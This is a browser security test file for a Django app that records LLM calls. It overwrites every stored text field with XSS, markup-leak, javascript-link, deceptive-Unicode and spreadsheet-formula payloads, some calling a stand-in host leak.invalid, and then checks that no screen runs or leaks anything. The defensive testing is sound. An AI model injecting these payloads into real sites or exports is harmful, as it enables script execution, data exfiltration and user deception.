"""Text that would run, style, leak or deceive: in every field that is stored, opened on every screen.

Calls are recorded as they come, then every free text of every row of a full project is overwritten, one
payload after the other. Chromium tells what the pages made of it: nothing may run, be asked of another host,
be refused by the Content-Security-Policy (that would be the second fence, not the first), lead to a script,
or stay invisible.
"""

from __future__ import annotations

import contextlib
import itertools
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest
from django.apps import apps
from django.contrib.staticfiles.handlers import StaticFilesHandler
from django.db import DatabaseError, connection, models, transaction
from django.test import modify_settings
from django.urls import reverse
from playwright.sync_api import Browser, Page
from pytest_django.live_server_helper import LiveServer

from reviewapp.formats.interchange import read_interaction
from reviewapp.models import Interaction
from reviewapp.pure.ids import new_id
from reviewapp.stages import record
from tests import counting, emptying
from tests.browser.conftest import session_cookie
from tests.browser.test_accessibility import PAGES, World, make_full
from tests.factories import NOW

pytestmark = [pytest.mark.browser, pytest.mark.django_db]

ELSEWHERE = "http://leak.invalid"
RUNS = (
    "<script>alert(1)</script>",
    "</title></textarea></script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>',
    f'<svg><script href="{ELSEWHERE}/x.js"></script><use href="{ELSEWHERE}/x.svg#a"/></svg>',
    "'\" autofocus onfocus=alert(1) onpointerover='alert(1)' x=",
    f"'\" hx-get='{ELSEWHERE}' hx-trigger='load' hx-on:load='alert(1)' x=",
    "<details open ontoggle=alert(1)><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "{{ 7|add:7 }}{% debug %}{% include 'base.html' %}${alert(1)}",
)
LEAKS = (
    f'<style>@import "{ELSEWHERE}/a.css"; body {{ background: url({ELSEWHERE}/b.png) }}</style>',
    f'<link rel="stylesheet" href="{ELSEWHERE}/c.css"><link rel="prefetch" href="{ELSEWHERE}/d">',
    f'<base href="{ELSEWHERE}/"><meta http-equiv="refresh" content="0;url={ELSEWHERE}/e">',
    f'<form action="{ELSEWHERE}"><button autofocus formaction="{ELSEWHERE}/f">Go on</button></form>',
    f"![a picture]({ELSEWHERE}/g.png?what=you-read) ![x][r]\n\n[r]: {ELSEWHERE}/h.png 'x'",
    f"![a](<{ELSEWHERE}/i.png>)\n![b]({ELSEWHERE}/j.png 'a \" b')\n[![c]({ELSEWHERE}/k.png)]({ELSEWHERE}/l)",
    f"<video autoplay src={ELSEWHERE}/m><audio src={ELSEWHERE}/n>",
    f"<object data={ELSEWHERE}/o></object><embed src={ELSEWHERE}/p>",
)
LEADS = (
    "[click](javascript:alert(1)) <javascript:alert(1)> [x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>) [y](vbscript:x) [z](\x01javascript:alert(1))",
    "javascript:alert(1)//",
)
DECEIVES = (
    "invoice\u202efdp.exe \u2066left open",
    "pay\u200bpal\u2060.\ufeffcom \u2063\u061c",
    "\x1b[31mred\x1b[0m \x1b]8;;http://leak.invalid\x07a link\x1b]8;;\x07 \x07\x08\x08\x9b",
    "tag\U000e0041\U000e0042 \U000e007f of letters that nobody sees \u00ad\u180e\u2028\u2029",
)
COMPUTES = (
    '=HYPERLINK("http://leak.invalid","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
)
PAYLOADS = RUNS + LEAKS + LEADS + DECEIVES + COMPUTES

# Texts with a form of their own, which what reads them relies on: no page and no call can put others there.
FORMED = {
    "bulkwork.deed", "canary.kind", "interaction.endpoint", "person.password", "person.language",
    "person.email", "project.slug", "queue.slug",
}  # fmt: skip


COLUMNS = itertools.count()


@dataclass
class Watched:
    """A page, and what it did that it must not."""

    page: Page
    done: list[str] = field(default_factory=list)


@dataclass(frozen=True)
class Site:
    url: str
    cookie: Any
    addresses: dict[str, str]


@pytest.fixture(scope="module")
def site(django_db_setup, django_db_blocker) -> Iterator[Site]:
    """A full project, every text of it hostile; committed, so that the server sees it."""
    serve = StaticFilesHandler.serve

    def serve_once(self: Any, request: Any) -> Any:
        answer = serve(self, request)
        answer["Cache-Control"] = "max-age=3600"
        return answer

    with (
        django_db_blocker.unblock(),
        modify_settings(ALLOWED_HOSTS={"append": "localhost"}),
        pytest.MonkeyPatch.context() as patch,
    ):
        # Else each screen asks again for each script, which is most of what a screen takes.
        patch.setattr(StaticFilesHandler, "serve", serve_once)
        server = LiveServer("localhost")
        try:
            world = make_full()
            # Before what they look for is overwritten.
            found = addresses(world, record_payloads(world))
            spoil()
            yield Site(server.url, session_cookie(person=world.person, url=server.url), found)
        finally:
            server.stop()
            emptying.empty()


@pytest.fixture
def watched(browser: Browser, site: Site) -> Iterator[Watched]:
    context = browser.new_context(base_url=site.url)
    context.add_cookies([site.cookie])
    # Told by the page itself, so also what no console message is written for.
    context.add_init_script(
        "document.addEventListener('securitypolicyviolation', (one) =>"
        " console.error(`refused: ${one.effectiveDirective} ${one.blockedURI} ${one.sample}`))"
    )
    page = context.new_page()
    watched = Watched(page)
    page.on("dialog", lambda dialog: (watched.done.append(f"ran: {dialog.message}"), dialog.dismiss()))
    page.on("pageerror", lambda error: watched.done.append(f"broke: {error}"))
    page.on("console", lambda told: told.type == "error" and watched.done.append(told.text))
    page.on("request", lambda request: is_elsewhere(request.url, site) and watched.done.append(request.url))
    page.on("popup", lambda popup: watched.done.append(f"opened: {popup.url}"))
    yield watched
    context.set_offline(True)
    context.close()


def is_elsewhere(url: str, site: Site) -> bool:
    return not url.startswith((f"{site.url}/", "data:image/"))


def record_payloads(world: World) -> list[Interaction]:
    """A call with each payload as prompt, answer, tool, token and name; and calls that failed."""
    request = {
        "model": RUNS[0],
        "user": RUNS[1],
        "messages": [one for text in PAYLOADS for one in messages(text)],
        "tools": [{"type": "function", "function": {"name": one, "description": one}} for one in PAYLOADS],
    }
    response = {
        "id": RUNS[2],
        "model": RUNS[3],
        "system_fingerprint": RUNS[4],
        "service_tier": RUNS[5],
        "choices": [choice(number, text) for number, text in enumerate(PAYLOADS)],
    }
    named = {
        "source": RUNS[0], "provider": RUNS[1][:100], "trace": RUNS[2], "session": RUNS[3], "user": RUNS[4],
        "tags": [text[:100] for text in PAYLOADS[:20]], "metadata": {text: text for text in PAYLOADS},
    }  # fmt: skip
    failed = [
        {"request": {"model": text}, "response": {"error": {"message": text, "code": text}}, "status": 500}
        for text in (RUNS[0], LEAKS[0], DECEIVES[2])
    ]
    arrivals = [
        record.Arrival(
            id=new_id(),
            project_id=world.project.pk,
            received_at=NOW,
            content=read_interaction(json.dumps(one)),
        )
        for one in ({"request": request, "response": response} | named, *failed)
    ]
    record.record_now(arrivals=arrivals, now=NOW)
    record.index_words()
    return [Interaction.objects.get(pk=one.id) for one in arrivals]


def messages(text: str) -> list[dict[str, Any]]:
    parts = [
        {"type": "text", "text": text},
        {"type": "image_url", "image_url": {"url": f"{ELSEWHERE}/picture.png"}},
        {"type": "image_url", "image_url": {"url": "data:image/svg+xml,<svg onload=alert(1)>"}},
        {"type": text, text: text},
    ]
    return [
        {"role": "system", "content": text},
        {"role": "user", "name": text, "content": parts},
        {"role": "tool", "tool_call_id": text, "content": json.dumps({text: text})},
        {"role": text, "content": text},
    ]


def choice(number: int, text: str) -> dict[str, Any]:
    call = {"id": text, "type": "function", "function": {"name": text, "arguments": json.dumps({text: text})}}
    other = {"token": f"{text} ", "logprob": -2.0}
    return {
        "index": number,
        "finish_reason": text,
        "message": {
            "role": "assistant", "content": text, "reasoning_content": text, "refusal": text,
            "tool_calls": [call],
        },
        "logprobs": {"content": [{"token": text, "logprob": -0.1, "top_logprobs": [other]}]},
    }  # fmt: skip


def spoil() -> None:
    """Every free text of every row becomes a payload, each row's another; what the database refuses stays."""
    for model in apps.get_app_config("reviewapp").get_models():
        for one in model._meta.concrete_fields:
            is_formed = one.primary_key or one.choices or f"{model._meta.model_name}.{one.name}" in FORMED
            if type(one) in {models.CharField, models.TextField} and not is_formed:
                spoil_column(model, one)


def spoil_column(model: type[models.Model], one: models.Field[Any, Any]) -> None:
    # What would turn around all that follows it is in every one.
    payload = "left((%(payloads)s::text[])[1 + (numbered.at + %(first)s) %% %(many)s], %(limit)s) || %(turn)s"
    # A name that must be the only one of its kind needs its number.
    written = f"{payload} || numbered.at" if one.unique or is_part_of_a_key(model, one) else payload
    table, key, column = (
        connection.ops.quote_name(name)
        for name in (model._meta.db_table, model._meta.pk.column, one.column)  # type: ignore[union-attr]
    )
    with contextlib.suppress(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(
            f"UPDATE {table} SET {column} = {written} FROM (SELECT {key} AS key, row_number() OVER () AS at"
            f" FROM {table}) AS numbered WHERE {table}.{key} = numbered.key",
            {
                "payloads": list(PAYLOADS),
                "first": 5 * next(COLUMNS),
                "many": len(PAYLOADS),
                "limit": (one.max_length or 10_000) - 5,
                "turn": "\u202e",
            },
        )


def is_part_of_a_key(model: type[models.Model], one: models.Field[Any, Any]) -> bool:
    return any(
        one.name in constraint.fields
        for constraint in model._meta.constraints
        if isinstance(constraint, models.UniqueConstraint)
    )


def addresses(world: World, recorded: list[Interaction]) -> dict[str, str]:
    """Every screen, and every way to look at what was recorded."""
    found = {
        name: reverse(view, args=[needs(world)] if needs else []) + after
        for name, (view, needs, after) in PAGES.items()
    }
    for number, one in enumerate(recorded):
        for view in ("", "?source", "?view=tokens", "?view=json") if number == 0 else ("",):
            found[f"recorded {number}{view}"] = reverse("interaction", args=[one.pk]) + view
    return found


# What is invisible and not what a script or an emoji needs; and links that run or tell who sent one.
LOOK = r"""() => {
  const found = [];
  const deceiving = [
    "\\u0000-\\u0008\\u000b\\u000c\\u000e-\\u001f\\u007f-\\u009f\\u180e\\u200b\\u202a-\\u202e",
    "\\u2060-\\u206f\\ufeff\\u{e0000}-\\u{e007f}",
  ].join("");
  const hidden = document.body.innerText.match(new RegExp(`.{0,9}[${deceiving}].{0,9}`, "u"));
  if (hidden) found.push(`hidden: ${JSON.stringify(hidden[0])}`);
  for (const one of document.querySelectorAll("a[href], area[href]")) {
    const to = new URL(one.getAttribute("href"), location);
    const out = to.origin !== location.origin && to.protocol !== "mailto:";
    if (!/^(https?|mailto):/.test(to.protocol)) found.push(`leads to ${to.href.slice(0, 80)}`);
    else if (out && !/noreferrer/.test(one.getAttribute("rel"))) found.push(`tells where from: ${to.href}`);
  }
  for (const one of document.querySelectorAll("form, [formaction]")) {
    const to = one.getAttribute("action") || one.getAttribute("formaction") || "";
    if (new URL(to, location).origin !== location.origin) found.push(`sends to ${to}`);
  }
  for (const one of document.querySelectorAll("*"))
    for (const { name } of one.attributes)
      if (/^(on.*|style|srcdoc)$/.test(name)) found.push(`${name} of ${one.outerHTML.slice(0, 120)}`);
  return found;
}"""
SHOWS_ANY = "/alert\\(1\\)|U\\+202E/.test(document.body.innerText)"


def test_no_screen_runs_loads_leaks_or_hides_anything(watched: Watched, site: Site):
    found = {}
    shown = 0

    for name, address in site.addresses.items():
        watched.done.clear()
        answer = watched.page.goto(address)
        assert answer is not None
        counting.tried(status=answer.status)
        told = [*watched.done, *watched.page.evaluate(LOOK)]
        # What is said of a filter that can't be is an answer, too.
        if answer.status == 422 and "refused" in name:
            told = [one for one in told if not one.startswith("Failed to load resource")]
        elif not answer.ok:
            told.append(f"answers {answer.status}")
        if told:
            found[name] = sorted(set(told))
        shown += watched.page.evaluate(SHOWS_ANY)

    assert found == {}
    # Nearly every screen had something to withstand.
    assert shown > len(site.addresses) * 3 / 4
